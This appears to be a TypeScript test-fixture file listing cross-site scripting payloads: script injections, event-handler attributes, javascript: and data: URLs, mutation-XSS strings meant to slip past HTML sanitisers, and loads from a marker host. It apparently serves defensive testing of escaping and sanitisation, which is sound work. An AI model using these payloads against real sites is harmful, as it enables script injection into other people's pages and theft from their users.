/** Host that nothing on the site may ask for anything. */
export const markerHost = 'marker.invalid'

const tab = '\t'

/**
 * Texts that run in a page which shows them carelessly: each sets `hit`, opens a dialog, or asks the marker host for
 * something. None is longer than 90 characters, so that they fit into names.
 */
export const hostileTexts: readonly string[] = [
  '<script>window.hit=1</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '</template><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  `<script src=//${markerHost}/x.js></script>`,
  '<ScRiPt>window.hit=1</sCrIpT>',
  '<script>window.hit=1//',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  `<img src=//${markerHost}/i.png>`,
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  "' autofocus onfocus=alert(1) x='",
  '` onerror=alert(1) `',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">点</math>',
  '<a href="javascript:alert(1)">点</a>',
  '[点](javascript:alert(1))',
  `<a href="java${tab}script:alert(1)">点</a>`,
  '<a href="&#106;avascript&colon;alert(1)">点</a>',
  '[点](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  `![x](//${markerHost}/m.png)`,
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<form action=javascript:alert(1)><button autofocus>点',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  `<link rel=stylesheet href=//${markerHost}/s.css><style>@import "//${markerHost}/t.css"</style>`,
  `<meta http-equiv=refresh content="0;url=//${markerHost}/"><base href=//${markerHost}/>`,
  '&lt;script&gt;alert(1)&lt;/script&gt;\u2028{{constructor.constructor("alert(1)")()}}',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

/** Texts that no file may bring in: what cannot be seen, or is no text. */
export const unreadableTexts: readonly string[] = ['甲\u0000乙', '甲\u0001乙', '甲\u001B[31m乙', '甲\uFFFD乙']

/** HTML by which sanitisers were passed: broken nesting, foreign content, names and addresses in disguise. */
export const hostileHtml: readonly string[] = [
  ...hostileTexts,
  '<p>字<script>alert(1)</script></p>',
  '<p><img src=x onerror=alert(1)//></p>',
  '<p><math><mi//xlink:href="data:x,<script>alert(1)</script>"></p>',
  '<p><svg><a xlink:href="javascript:alert(1)"><text>点</text></a></svg></p>',
  '<p><svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></p>',
  '<p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></p>',
  '<p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></p>',
  '<p><math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<p><svg><desc><table><thead><s></table></s><s><noscript><img src=x onerror=alert(1)></noscript></p>',
  '<p><noscript><style></noscript><img src=x onerror=alert(1)></style></noscript></p>',
  '<p><select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  '<p><xmp></xmp><img src=x onerror=alert(1)></p>',
  '<p><listing>&lt;img src=x onerror=alert(1)&gt;</listing></p>',
  '<p><plaintext><img src=x onerror=alert(1)>',
  '<p><title><a id="</title><img src=x onerror=alert(1)>">',
  '<p><iframe src="javascript:alert(1)"></iframe></p>',
  '<p><object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"></p>',
  '<p><a href=" &#14; javascript:alert(1)">点</a></p>',
  '<p><a href="javascript&#x0A;:alert(1)">点</a><a href="JaVaScRiPt:alert(1)">点</a></p>',
  '<p><a href="vbscript:msgbox(1)">点</a><a href="data:text/html,<script>alert(1)</script>">点</a></p>',
  `<p style="background:url(//${markerHost}/b)">字</p><p class="x" id="location">字</p>`,
  `<p><img srcset="//${markerHost}/a 1x" src="//${markerHost}/b" width=1 height=1></p>`,
  '<p><img src="/media/images/../../api/logout" width="1" height="1" onload="alert(1)"></p>',
  `<p><video poster="//${markerHost}/p" src="//${markerHost}/v" autoplay onloadstart=alert(1)></video></p>`,
  '<p><body onload=alert(1)><frameset onload=alert(1)></p>',
  '<p><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>点</button></p>',
  '<p><marquee onstart=alert(1)>字</marquee><isindex type=image src=x onerror=alert(1)></p>',
  '<p contenteditable onbeforeinput=alert(1) onfocusin=alert(1) tabindex=1 autofocus>字</p>',
  '<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption><tr><td>字</td></tr></table>',
  '<p><a href="//evil.example" target="_blank" ping="//marker.invalid/ping">点</a></p>',
  '<p><b is="x-script" onclick=alert(1)>字</b><x-script onconnected=alert(1)></x-script></p>',
  '<p><div><template shadowrootmode="open"><script>alert(1)</script><img src=x onerror=alert(1)></template></div></p>',
  '<p>' + '<b>'.repeat(600) + '<img src=x onerror=alert(1)>',
  '<p><?xml-stylesheet href="javascript:alert(1)"?><!ENTITY x "<script>alert(1)</script>">&x;</p>',
]
